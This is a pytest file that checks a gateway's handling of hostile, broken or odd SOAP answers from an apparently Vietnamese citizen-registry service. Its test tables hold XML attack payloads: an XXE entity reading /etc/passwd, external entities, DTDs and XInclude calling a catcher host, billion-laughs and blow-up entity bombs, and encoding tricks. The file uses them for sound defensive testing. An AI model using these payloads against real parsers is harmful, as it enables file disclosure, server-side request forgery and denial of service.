"""SOAP answers that are hostile, broken or odd, seen at the gateway's door."""

import io
import json
import unicodedata
from xml.sax.saxutils import escape

import pytest

from tests.faults.conftest import (
    CATCHER,
    GOSSIP,
    PERSON,
    Good,
    Say,
    Stage,
    assert_nothing_leaked,
    assert_outcome,
    body,
    found,
    says,
)
from tests.faults.test_requests import INJECTIONS

pytestmark = pytest.mark.asyncio(loop_scope="session")

S11, S12 = "http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"
FAULT = (
    f"<f:Fault xmlns:f='{S11}'><faultcode>f:Server</faultcode><faultstring>{GOSSIP}</faultstring></f:Fault>"
)
FAULT12 = (
    f"<f:Fault xmlns:f='{S12}'><f:Code><f:Value>f:Receiver</f:Value></f:Code>"
    f"<f:Reason><f:Text xml:lang='vi'>{GOSSIP}</f:Text></f:Reason></f:Fault>"
)
OTHER = "033190473862"
RECORD = "<ns1:CongDan>"
INVALID = ("invalid", "source_answer_invalid")
SOMEBODY_ELSE = ("invalid", "source_answer_other_person")


def swapped(old: str, new: str, times: int = 1) -> Say:
    def change(good: Good) -> str:
        assert old in good.text
        return good.text.replace(old, new, times)

    return body(change)


def before(text: str) -> Say:
    return body(lambda good: text + good.text)


def envelope(content: str, soap: str = S11) -> str:
    return f"<s:Envelope xmlns:s='{soap}'><s:Body>{content}</s:Body></s:Envelope>"


def dtd(inside: str, use: str = "&x;") -> Say:
    return body(lambda good: f"<!DOCTYPE a [{inside}]>" + good.text.replace("TRẦN THỊ MẪU", use, 1))


def composed_twice(good: Good) -> str:
    return good.text.replace("</ns1:CongDan>", "</ns1:CongDan>" + _record(good).replace(PERSON, OTHER), 1)


def _record(good: Good) -> str:
    inner = good.text.partition(RECORD)[2].partition("</ns1:CongDan>")[0]
    return f"{RECORD}{inner}</ns1:CongDan>"


def old_code_page(good: Good) -> bytes:
    return unicodedata.normalize("NFD", good.text).encode("cp1258", errors="ignore")


def envelope_inside(good: Good) -> str:
    return good.text.partition("<soapenv:Body>")[2].partition("</soapenv:Body>")[0]


def reversed_elements(good: Good) -> str:
    inner = good.text.partition("<ns1:GioiTinh>")[2].partition("<ns1:NgayThangNamSinh>")[0]
    moved = good.text.replace("<ns1:GioiTinh>" + inner, "", 1)
    return moved.replace("</ns1:CongDan>", "<ns1:GioiTinh>" + inner + "</ns1:CongDan>", 1)


LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10))
REFUSED: dict[str, tuple[Say, tuple[str, str]]] = {
    # T4: document types, entities
    "entity of a file": (dtd("<!ENTITY x SYSTEM 'file:///etc/passwd'>"), INVALID),
    "entity of an address": (dtd(f"<!ENTITY x SYSTEM '{CATCHER}/x'>"), INVALID),
    "parameter entity": (dtd(f"<!ENTITY % x SYSTEM '{CATCHER}/x'> %x;", "a"), INVALID),
    "external subset": (before(f"<!DOCTYPE a SYSTEM '{CATCHER}/x.dtd'>"), INVALID),
    "public subset": (before(f"<!DOCTYPE a PUBLIC '-//A//B' '{CATCHER}/x.dtd'>"), INVALID),
    "billion laughs": (dtd(LAUGHS, "&a9;"), INVALID),
    "quadratic blow-up": (dtd(f"<!ENTITY x '{'a' * 50_000}'>", "&x;" * 5_000), INVALID),
    "plain document type": (before("<!DOCTYPE a>"), INVALID),
    "entity without a type": (swapped("TRẦN THỊ MẪU", "&x;"), INVALID),
    "document type in utf-16": (body(lambda good: ("<!DOCTYPE a>" + good.text).encode("utf-16")), INVALID),
    "document type in utf-7": (
        body(lambda good: b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE a+AD4-" + good.body), INVALID,
    ),
    "element of inclusion in a text": (
        swapped("TRẦN THỊ MẪU", f"<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='{CATCHER}/x'/>"),
        INVALID,
    ),
    # T5: too much of it
    "100 000 levels": (body(lambda _: envelope("<a>" * 100_000 + "</a>" * 100_000)), INVALID),
    "60 levels": (swapped("<ns1:CongDan>", "<ns1:CongDan>" + "<z>" * 60 + "</z>" * 60), INVALID),
    "100 000 elements": (swapped(RECORD, RECORD + "<z/>" * 100_000), INVALID),
    "half a million elements": (swapped(RECORD, RECORD + "<z/>" * 500_000), INVALID),
    "quarter of a million comments": (swapped(RECORD, RECORD + "<!---->" * 280_000), INVALID),
    "many name spaces": (swapped("<ns1:CongDan>", "<ns1:CongDan " + "xmlns:a='u' " * 170_000 + ">"), INVALID),
    "three megabytes of text": (swapped("TRẦN THỊ MẪU", "A" * 3_000_000), INVALID),
    "three megabytes of attribute": (swapped("<ns1:CongDan>", f"<ns1:CongDan a='{'A' * 3_000_000}'>"), INVALID),
    # T13: two readers, two readings
    "comment inside the number": (swapped(PERSON, "033190<!-- -->001234"), INVALID),
    "instruction inside the number": (swapped(PERSON, "033190<?a b?>001234"), INVALID),
    "comment that hides the rest": (swapped(PERSON, f"{PERSON}<!-- -->9"), INVALID),
    "number twice": (
        swapped("<ns1:SoCMND/>", f"<ns1:SoCMND/><ns1:SoDinhDanh>{OTHER}</ns1:SoDinhDanh>"), INVALID,
    ),
    "name twice": (
        swapped("<ns1:GioiTinh>", f"<ns1:HoVaTen><ns1:Ten>{GOSSIP}</ns1:Ten></ns1:HoVaTen><ns1:GioiTinh>"), INVALID,
    ),
    "two bodies": (swapped("</soapenv:Body>", "</soapenv:Body><soapenv:Body/>"), INVALID),
    "two documents": (body(lambda good: good.text * 2), INVALID),
    "two answers": (
        body(lambda good: good.text.replace("</soapenv:Body>", envelope_inside(good) + "</soapenv:Body>")), INVALID,
    ),
    "full-width number": (swapped(PERSON, "０３３１９０００１２３４"), SOMEBODY_ELSE),
    "arabic number": (swapped(PERSON, "٠٣٣١٩٠٠٠١٢٣٤"), SOMEBODY_ELSE),
    "null character": (swapped(PERSON, "033190001234&#0;"), INVALID),
    # T14, F16: about somebody else
    "somebody else": (swapped(PERSON, OTHER), SOMEBODY_ELSE),
    "two people": (body(composed_twice), SOMEBODY_ELSE),
    # F5: no answer at all
    "garbage": (body(lambda _: bytes(range(256)) * 8), INVALID),
    "page": (body(lambda _: f"<!doctype html><html><body>{GOSSIP}</body></html>", "text/html"), INVALID),
    "page that claims to be XML": (body(lambda _: f"<html><body>{GOSSIP}</body></html>"), INVALID),
    "empty": (body(lambda _: b""), INVALID),
    "blank": (body(lambda _: b" \r\n"), INVALID),
    "no content": (says(lambda _: b"HTTP/1.1 204 No Content\r\n\r\n"), INVALID),
    "json": (body(lambda _: '{"a": 1}', "application/json"), INVALID),
    "text": (body(lambda _: GOSSIP, "text/plain"), INVALID),
    "half a document": (body(lambda good: good.body[: len(good.body) // 2]), INVALID),
    # F6: faults
    "fault with status 200": (body(lambda _: envelope(FAULT)), INVALID),
    "fault with status 500": (body(lambda _: envelope(FAULT), status="500 Error"), INVALID),
    "fault after a result": (swapped("</soapenv:Body>", f"{FAULT}</soapenv:Body>"), INVALID),
    "fault of SOAP 1.2": (body(lambda _: envelope(FAULT12, S12), "application/soap+xml"), INVALID),
    "fault of SOAP 1.2, status 500": (body(lambda _: envelope(FAULT12, S12), status="500 Error"), INVALID),
    "fault of SOAP 1.2 in an envelope of 1.1": (body(lambda _: envelope(FAULT12)), INVALID),
    # F7: letters
    "utf-16": (body(lambda good: ("<?xml version='1.0' encoding='utf-16'?>" + good.text).encode("utf-16")), INVALID),
    "old code page that says so": (
        body(lambda good: b"<?xml version='1.0' encoding='windows-1258'?>" + old_code_page(good)), INVALID,
    ),
    "old code page that denies it": (body(old_code_page), INVALID),
    "overlong": (body(lambda good: good.body.replace(b"033190", b"\xc0\xb0\xc0\xb3\xc0\xb3190", 1)), INVALID),
    # F8 (endless bodies are in test_limits.py)
    "unknown coding": (body(lambda good: good.body, more="Content-Encoding: br\r\n"), INVALID),
}  # fmt: skip
READ: dict[str, Say] = {
    # T4, T6: hints that lead outside are not followed, and change nothing
    "place of a schema": swapped(
        "<soapenv:Envelope ",
        "<soapenv:Envelope xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
        f"xsi:schemaLocation='urn:a {CATCHER}/a.xsd' xsi:noNamespaceSchemaLocation='{CATCHER}/b.xsd' ",
    ),
    "style sheet": before(f"<?xml-stylesheet href='{CATCHER}/a.xsl' type='text/xsl'?>"),
    "address to answer to": swapped(
        "<soapenv:Body>",
        "<soapenv:Header><w:ReplyTo xmlns:w='http://www.w3.org/2005/08/addressing'>"
        f"<w:Address>{CATCHER}/r</w:Address></w:ReplyTo></soapenv:Header><soapenv:Body>",
    ),
    "address of an attachment": swapped(
        "<ns1:GioiTinh>",
        f"<x:Include xmlns:x='http://www.w3.org/2004/08/xop/include' href='{CATCHER}/f'/><ns1:GioiTinh>",
    ),
    "headers that lead away": body(
        lambda good: good.body,
        more=f"Refresh: 0; url={CATCHER}/\r\nContent-Location: {CATCHER}/\r\nLink: <{CATCHER}/>; rel=preload\r\n",
    ),
    # T13: odd, but with one meaning
    "number in CDATA": swapped(PERSON, f"<![CDATA[{PERSON}]]>"),
    "number by references": swapped(PERSON, "".join(f"&#{ord(digit)};" for digit in PERSON)),
    "comment between elements": swapped("<ns1:GioiTinh>", "<!-- a --><ns1:GioiTinh>"),
    # F7
    "byte-order mark": body(lambda good: b"\xef\xbb\xbf" + good.body),
    "header of another charset": body(lambda good: good.body, "text/xml; charset=iso-8859-1"),
    "decomposed name": body(lambda good: unicodedata.normalize("NFD", good.text)),
    # F10
    "further field": swapped("<ns1:GioiTinh>", f"<ns1:Moi>{GOSSIP}</ns1:Moi><ns1:GioiTinh>"),
    "missing field": swapped("<ns1:DanToc>01</ns1:DanToc>", ""),
    "null field": swapped(
        "<ns1:DanToc>01</ns1:DanToc>",
        "<ns1:DanToc xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:nil='true'/>",
    ),
    "fields in another order": body(reversed_elements),
    "envelope of SOAP 1.2": body(lambda good: good.text.replace(S11, S12), "application/soap+xml"),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_answer_that_cannot_be_trusted_is_an_outcome_and_spoils_nothing_else(
    stage: Stage, logged: io.BytesIO, name: str
) -> None:
    say, outcome = REFUSED[name]
    stage.set("population", say)
    answer = await assert_outcome(stage, logged, "population", outcome)
    assert answer["fields"]["nxnHoTen"]["reason"]["code"] == outcome[1]
    assert answer["form"]["nxnTinhTrangHonNhan"]
    assert "root:" not in str(answer)


@pytest.mark.parametrize(
    ("old", "new"), [("TRẦN THỊ MẪU", "PHẠM THỊ LẠ"), ("19900215", "19910216")], ids=["name", "birthday"]
)
async def test_number_under_another_name_opens_nothing_whoever_erred(
    stage: Stage, logged: io.BytesIO, old: str, new: str
) -> None:
    """Is the record wrong, or the question? Nobody can tell; so nothing that was found by the number is shown."""
    stage.set("population", swapped(old, new))
    answer = await stage.ask()
    why = "data_do_not_match"
    said = {"population": ("no_match", why), "civil_status": ("no_match", why), "account": ("found", None)}
    assert found(answer) == said
    assert "nxnTinhTrangHonNhan" not in answer["form"]
    assert answer["fields"]["nxnHoTen"]["reason"]["code"] == "data_do_not_match"
    await assert_nothing_leaked(stage.house, logged)


@pytest.mark.parametrize("name", READ)
async def test_odd_answer_with_one_meaning_is_read_right(stage: Stage, logged: io.BytesIO, name: str) -> None:
    stage.set("population", READ[name])
    answer = await assert_outcome(stage, logged, "population", ("found", None))
    assert answer["form"]["nxnHoTen"] == unicodedata.normalize("NFC", "Trần Thị Mẫu")
    blank = name in {"missing field", "null field"}
    assert answer["fields"]["nxnDanToc"]["state"] == ("empty" if blank else "filled")


@pytest.mark.parametrize("name", INJECTIONS)
async def test_injected_text_of_an_answer_stays_text(stage: Stage, logged: io.BytesIO, name: str) -> None:
    text = INJECTIONS[name]
    stage.set("population", swapped("SỐ 1 PHỐ MẪU", escape(text), 4))
    answer = await assert_outcome(stage, logged, "population", ("found", None))
    assert answer["form"]["nxnNoiCuTru"]["dcChiTiet"].casefold() == text.casefold()
    assert text not in logged.getvalue().decode()
    assert all(json.loads(line)["event"] != "forged.line" for line in logged.getvalue().splitlines())
